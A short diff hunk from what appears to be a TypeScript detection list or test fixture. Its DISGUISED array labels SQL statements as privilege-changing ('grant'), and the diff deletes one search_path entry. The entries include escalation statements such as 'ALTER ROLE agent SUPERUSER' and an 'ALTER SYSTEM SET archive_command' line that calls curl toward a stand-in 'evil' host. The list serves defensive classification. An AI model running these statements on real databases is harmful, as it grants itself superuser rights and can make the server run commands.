@@ -106,7 +106,6 @@ export const DISGUISED: readonly (readonly [string, SqlKind])[] = [
   ['SET SESSION AUTHORIZATION postgres', 'grant'],
   ['RESET ROLE', 'grant'],
   ['SET LOCAL ROLE admin', 'grant'],
-  ['SET search_path = evil, public', 'grant'],
   ['SET session_replication_role = replica', 'grant'],
   ["ALTER SYSTEM SET archive_command = 'curl evil'", 'grant'],
   ['ALTER ROLE agent SUPERUSER', 'grant'],
